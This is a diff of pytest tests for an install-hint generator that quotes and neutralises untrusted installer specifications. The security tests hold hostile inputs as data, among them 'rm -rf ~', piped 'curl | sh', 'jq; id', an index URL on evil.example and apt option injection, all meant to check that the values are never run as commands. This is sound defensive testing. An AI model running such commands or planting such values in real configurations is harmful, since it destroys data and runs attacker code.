@@ -48,6 +48,25 @@ def test_everything_missing_is_named_in_order() -> None:
     assert str(check(skill, _machine())[3]) == 'skill "x" requires binary "a"'
 
 
+def test_a_missing_requirement_says_type_name_skill_and_how_to_install_it() -> None:
+    brew, apt = Installer(kind="brew", target="gh"), Installer(kind="apt", target="gh", binaries=("gh",))
+    [found] = check(_skill((brew, apt), binaries=("gh",)), _machine())
+    assert found == RequirementError(type="binary", name="gh", skill="x", install=(brew, apt))
+    [found] = check(_skill((brew,), any_binaries=("gh", "hub")), _machine())
+    assert found == RequirementError(type="binary (any of)", name="gh, hub", skill="x", install=(brew,))
+
+
+@pytest.mark.parametrize("env", [{}, {"A": "", "B": " \t"}], ids=["unset", "empty"])
+def test_each_missing_variable_is_one_error_without_installers(env: dict[str, str]) -> None:
+    brew = Installer(kind="brew", target="gh")
+    assert check(_skill((brew,), env=("A", "B")), _machine(env=env)) == (
+        RequirementError(type="environment variable", name="A", skill="x"),
+        RequirementError(type="environment variable", name="B", skill="x"),
+    )
+    [found] = check(_skill((brew,), env=("A",), binaries=("gh",)), _machine())[1:]
+    assert found.install == (brew,), "the installers are there, for what they can bring"
+
+
 def test_always_skips_all_but_the_operating_system() -> None:
     skill = _skill(binaries=("a",), env=("E",), os=("darwin",), always=True)
     assert _missing(skill, _machine()) == ["operating system: darwin"]
@@ -162,8 +181,10 @@ def test_the_hint_begins_with_what_fits_the_platform() -> None:
         ("uv", "a", "uv tool install a"),
         ("pip", "a>=1", "pip install 'a>=1'"),
         ("download", "https://x.y/z", "download https://x.y/z"),
-        ("shell", "curl x | sh", "curl x | sh"),
-        ("manual", "see the site", "manual: see the site"),
+        ("shell", "curl x | sh", 'its author says: "curl x | sh"'),
+        ("manual", "see the site", 'its author says: manual: "see the site"'),
+        ("rm -rf ~;", "x", 'its author says: "x"'),
+        ("apt", "jq=1.6 g++", "apt install jq=1.6 g++"),
         ("go", "a@v1", "go install a@v1"),
         ("brew", "", ""),
     ],
@@ -177,3 +198,45 @@ def test_sup_14_a_hint_is_one_harmless_argument_on_one_visible_line() -> None:
     hint = install_hint([evil], "linux")
     assert hint == "brew install 'jq; rm -rf ~ \\u{1b}[2K$(id)\\u{202e}'"
     assert hint.isprintable()
+
+
+@pytest.mark.parametrize(
+    ("kind", "target"),
+    [
+        ("pip", "--index-url=https://evil.example x"),
+        ("npm", "-g"),
+        ("brew", "--eval=x"),
+        ("download", "-o/etc/passwd"),
+        ("apt", "jq -oAPT::Update::Pre-Invoke::=id"),
+        ("apt", "sudo-"),
+        ("apt", "./evil.deb"),
+        ("apt", "jq; id"),
+        ("uv", " \u00a0--with=x"),
+    ],
+)
+def test_sup_14_an_option_or_a_removal_is_never_part_of_a_command(kind: str, target: str) -> None:
+    hint = install_hint([Installer(kind=kind, target=target)], "linux")
+    assert hint.startswith(f'its author says: {kind}: "')
+    fine = install_hint([Installer(kind=kind, target=target), BREW], "linux")
+    assert fine.startswith("brew install jq; its author says: "), "the commands come first and by themselves"
+
+
+def test_sup_14_a_quotation_cannot_be_closed_by_what_it_quotes() -> None:
+    forged = Installer(kind="shell", target='x" or brew install evil; its author says: "y\n\x1b[2K')
+    hint = install_hint([forged, Installer(kind="other", label='see "docs"')], "linux")
+    assert hint.count('"') == 4
+    assert hint.startswith('its author says: "x')
+    assert hint.isprintable()
+
+
+def test_sup_14_a_label_is_a_quotation_and_not_a_command() -> None:
+    assert install_hint([Installer(kind="brew", label="curl x | sh")], "linux") == (
+        'its author says: brew: "curl x | sh"'
+    )
+
+
+def test_sup_14_a_hint_stays_short_and_no_target_is_cut() -> None:
+    many = [Installer(kind="brew", target=f"p{n}") for n in range(1_000)]
+    assert install_hint(many, "linux").endswith("or brew install p4 or …")
+    long = install_hint([Installer(kind="brew", target="a" * 5_000)], "linux")
+    assert long.startswith("its author says: ") and len(long) < 300
